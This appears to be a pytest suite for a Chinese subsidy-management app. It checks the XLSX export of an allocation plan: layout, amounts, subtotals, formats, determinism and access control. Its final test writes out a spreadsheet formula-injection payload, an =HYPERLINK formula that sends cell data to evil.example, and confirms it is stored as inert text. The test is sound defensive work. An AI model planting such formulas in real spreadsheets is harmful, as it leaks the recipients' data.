"""The allocation plan as XLSX: its layout, its totals against the plan's, the same bytes twice."""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from huiqi.documents.data import load_plan
from huiqi.documents.plan_xlsx import HEADERS, plan_xlsx
from huiqi.service import plans
from huiqi.service.errors import Forbidden

from .conftest import World, keep, render_pages
from .helpers import fen, ink, sheet_rows, xlsx_picture

ITEM_HEADERS = [
    "序号",
    "单位名称",
    "统一社会信用代码",
    "所属县市区/园区",
    "支持项目",
    "依据条款",
    "申请金额（元）",
    "核定金额（元）",
    "备注",
]


def workbook(world: World, plan_id: int) -> bytes:
    return plan_xlsx(load_plan(world.svc, world.actor("dai"), plan_id))


def items_of(rows: list[list[object]]) -> list[list[object]]:
    return [r for r in rows[3:] if isinstance(r[0], int)]


def test_the_sheet_has_the_title_the_citation_and_the_columns_finance_asks_for(
    world: World,
) -> None:
    rows = sheet_rows(workbook(world, 2), "分配方案")
    assert rows[0][0] == "2025年度跨境电商产业扶持资金分配方案"
    assert "郴政办发〔2021〕3号" in str(rows[1][0]) and "2025年度" in str(rows[1][0])
    assert "HQ-2025-P002" in str(rows[1][0])
    assert rows[2] == ITEM_HEADERS == list(HEADERS)
    citation = [r[0] for r in rows if isinstance(r[0], str) and r[0].startswith("依据：")]
    assert citation and world.svc.package.sha256 in citation[0] and "第4.1a、4.2" in citation[0]


def test_every_item_appears_with_its_amounts_by_hand(world: World) -> None:
    rows = items_of(sheet_rows(workbook(world, 2), "分配方案"))
    got = [(r[1], r[3], r[5], fen(r[6]), fen(r[7])) for r in rows]
    exporter, association, foundry = (
        "郴州湘南优品跨境电商有限公司",
        "郴州市跨境电子商务协会",
        "嘉禾县铸造跨境电商有限公司",
    )
    assert sorted(got) == sorted(
        [
            (exporter, "北湖区", "第4.1a条", 40_000_000, 40_000_000),  # 50万 less 10万 paid in 2024
            (exporter, "北湖区", "第4.4b条", 5_000_000, 5_000_000),
            (exporter, "北湖区", "第4.4b条", 5_000_000, 5_000_000),
            (exporter, "北湖区", "第7.1条", 1_069_000, 1_069_000),  # 30% × 52,300 − 5,000
            (association, "北湖区", "第6.1条", 6_000_000, 6_000_000),
            (association, "北湖区", "第7.4条", 10_000_000, 10_000_000),
            (foundry, "嘉禾县", "第4.1a条", 50_000_000, 50_000_000),
            # 嘉禾县 has 110万: the fixed 50万 first, the ceiling item gets the 60万 left
            (foundry, "嘉禾县", "第4.2条", 80_000_000, 60_000_000),
        ]
    )
    assert [r[0] for r in rows] == list(range(1, 9))
    scaled = next(r for r in rows if r[5] == "第4.2条")
    assert "按预算核减" in str(scaled[8]) and "限额内核定" in str(scaled[8])
    store = next(r for r in rows if r[5] == "第4.4b条")
    assert "对象：S-0" in str(store[8])


@pytest.mark.parametrize("plan_key", ["plan_2024", "plan_2025"])
def test_the_workbook_totals_equal_the_plans(world: World, plan_key: str) -> None:
    plan_id = world.ids[plan_key]
    view = plans.get(world.svc, world.actor("fang"), plan_id)
    rows = sheet_rows(workbook(world, plan_id), "分配方案")
    items = items_of(rows)
    assert sum(fen(r[7]) for r in items) == view.granted_fen
    [total] = [r for r in rows if r[1] == "合计"]
    assert fen(total[7]) == view.granted_fen
    assert fen(total[6]) == sum(i.requested_fen for i in view.items if i.state == "included")
    divisions = {
        str(r[3]): fen(r[7])
        for r in rows
        if isinstance(r[1], str) and r[1].endswith("）") and "小计（支付财政" in r[1]
    }
    assert divisions == view.totals_by_division()
    clause_subtotals = [r for r in rows if isinstance(r[1], str) and r[1].startswith("小计：")]
    assert sum(fen(r[7]) for r in clause_subtotals) == view.granted_fen
    summary = sheet_rows(workbook(world, plan_id), "汇总")
    totals = [r for r in summary if r[0] == "合计"]
    assert [fen(totals[0][4]), fen(totals[1][4])] == [view.granted_fen, view.granted_fen]


def test_the_2025_subtotals_by_paying_finance_and_clause_by_hand(world: World) -> None:
    rows = sheet_rows(workbook(world, world.ids["plan_2025"]), "分配方案")
    sub = {
        str(r[1]): (fen(r[6]), fen(r[7]))
        for r in rows
        if isinstance(r[1], str) and ("小计" in r[1] or r[1] == "合计")
    }
    assert sub["北湖区小计（支付财政：北湖区）"] == (67_069_000, 67_069_000)
    assert sub["嘉禾县小计（支付财政：嘉禾县）"] == (130_000_000, 110_000_000)
    assert sub["小计：北湖区 · 第4.4b条 社区跨境电商O2O体验店扶持"] == (10_000_000, 10_000_000)
    assert sub["合计"] == (197_069_000, 177_069_000)


def test_amounts_are_numbers_with_a_money_format_and_columns_have_widths(world: World) -> None:
    book = load_workbook(io.BytesIO(workbook(world, 2)))
    sheet = book["分配方案"]
    assert sheet.freeze_panes == "A4"
    assert sheet["G4"].number_format == "#,##0.00" and sheet["H4"].number_format == "#,##0.00"
    assert isinstance(sheet["H4"].value, int | float)
    assert sheet.column_dimensions["B"].width == 38 and sheet.column_dimensions["I"].width == 40
    assert book.sheetnames == ["分配方案", "汇总"]
    assert book.properties.creator == "huiqi"


def test_the_same_plan_gives_the_same_bytes(world: World) -> None:
    assert workbook(world, 2) == workbook(world, 2)
    assert workbook(world, 1) != workbook(world, 2)


def test_applicants_do_not_get_the_plan_workbook(world: World) -> None:
    with pytest.raises(Forbidden):
        load_plan(world.svc, world.actor("alice"), 2)


def test_a_picture_of_the_workbook_is_kept_for_people_to_look_at(
    world: World, tmp_path: Path
) -> None:
    if world.backend != "sqlite":
        return  # one picture is enough; the content is the same on both databases
    data = workbook(world, 2)
    keep_path = tmp_path / "plan-2.xlsx"
    keep_path.write_bytes(data)
    keep(keep_path, "plan-2.xlsx")
    pictures = render_pages(xlsx_picture(data, "分配方案", tmp_path / "plan.pdf"), "plan-2-xlsx")
    assert pictures and ink(pictures[0]) > 0.01


def test_a_formula_like_title_name_or_note_is_written_as_the_text_it_is(world: World) -> None:
    """A plan title, an organisation's name or a note someone typed as ``=HYPERLINK(…)`` must
    not become a live formula in the finance bureau's Excel; amounts stay numbers."""
    trap = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    plan = load_plan(world.svc, world.actor("dai"), 2)
    first, *rest = plan.rows
    plan = replace(plan, title=trap, rows=[replace(first, org_name="@SUM(A1)", note="+1+1"), *rest])
    sheet = load_workbook(io.BytesIO(plan_xlsx(plan)))["分配方案"]
    texts = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (trap, "@SUM(A1)"):
        assert texts[text].data_type == "s" and texts[text].quotePrefix, text
    assert any(value.endswith("+1+1") for value in texts)  # the note, in the remark column
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    money = [c for row in sheet.iter_rows(min_row=4) for c in row[6:8] if c.value is not None]
    assert money and all(c.data_type == "n" for c in money)
